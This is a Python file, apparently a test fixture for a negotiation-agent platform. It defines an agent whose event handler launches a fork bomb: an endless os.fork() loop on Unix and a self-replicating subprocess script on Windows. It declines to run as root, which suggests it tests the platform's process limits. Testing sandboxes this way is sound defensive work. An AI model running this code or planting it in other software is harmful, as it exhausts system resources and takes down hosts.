"""Agent that starts processes that start processes; not as root, whom no limit of processes binds."""

from __future__ import annotations

import os
import subprocess
import sys

from negoplatform.agent_api.actions import Action
from negoplatform.agent_api.base import NegotiationAgent
from negoplatform.agent_api.context import AgentContext
from negoplatform.core.events import Event

BOMB = """
import subprocess, sys
while True:
    subprocess.Popen([sys.executable, "-c", sys.argv[1], sys.argv[1]])
"""
"""Program for Windows, where no process forks, that starts copies of itself."""


class Forks(NegotiationAgent):
    """Agent that starts processes that start processes; not as root, whom no limit of processes binds."""

    def handle_event(self, ctx: AgentContext, event: Event) -> list[Action]:
        if sys.platform == "win32":
            subprocess.call([sys.executable, "-c", BOMB, BOMB])
            return []
        if os.getuid() == 0:
            raise PermissionError("root would not be stopped")
        while True:
            try:
                os.fork()
            except OSError:
                continue
